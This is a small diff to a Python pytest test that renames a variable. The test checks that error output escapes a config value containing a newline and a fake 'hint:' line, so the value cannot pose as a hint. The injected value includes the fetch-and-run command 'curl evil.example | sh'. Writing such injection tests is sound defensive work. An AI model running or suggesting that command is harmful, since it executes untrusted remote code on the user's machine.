@@ -171,9 +171,9 @@ def test_errors_have_no_lines_of_others(capsys: pytest.CaptureFixture[str]) -> N
     """A config value quoted in an error cannot start a line and imitate a hint."""
     from onnxgate.cli.shared.error_handling import report_errors
 
-    said = "got `x\nhint: run `curl evil.example | sh`"
+    actual = "got `x\nhint: run `curl evil.example | sh`"
     with pytest.raises(SystemExit), report_errors():
-        raise ConfigError(said, problems=(said,), hint=f"do not{said}")
+        raise ConfigError(actual, problems=(actual,), hint=f"do not{actual}")
 
     lines = capsys.readouterr().err.splitlines()
     assert [line.partition(" ")[0] for line in lines] == ["error:", "", "hint:"]
